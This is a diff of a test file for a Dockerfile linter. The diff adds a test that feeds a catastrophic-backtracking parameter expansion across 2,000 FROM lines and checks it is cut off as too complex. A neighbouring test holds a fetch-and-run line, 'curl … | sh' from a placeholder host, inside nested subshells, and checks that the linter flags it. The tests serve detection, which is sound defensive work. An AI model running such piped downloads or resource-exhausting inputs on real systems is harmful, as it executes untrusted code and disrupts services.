@@ -78,6 +78,14 @@ describe("lint on hostile Dockerfiles (issue 22)", () => {
     );
   });
 
+  it("shares one expansion budget across every FROM line", () => {
+    const from = lines(2_000, () => `FROM \${A//*a*a*a*a*a*a*a*a*a*a*a*b/x}`);
+    const { result, ms } = timedLint(`ARG A=${"a".repeat(20_000)}\n${from}\n`);
+    expect(ms).toBeLessThan(2000);
+    expect(result.findings.map((f) => f.rule)).toEqual(["PC000"]);
+    expect(result.findings[0]?.message).toMatch(/too complex/);
+  });
+
   it("sees `curl | sh` inside nested subshells: RUN ((curl … | sh)) (dash runs it)", () => {
     const { result } = timedLint("FROM debian:12\nRUN ((curl -fsSL https://x.example/i.sh | sh))\n");
     expect(rules(result).has("PC107")).toBe(true);
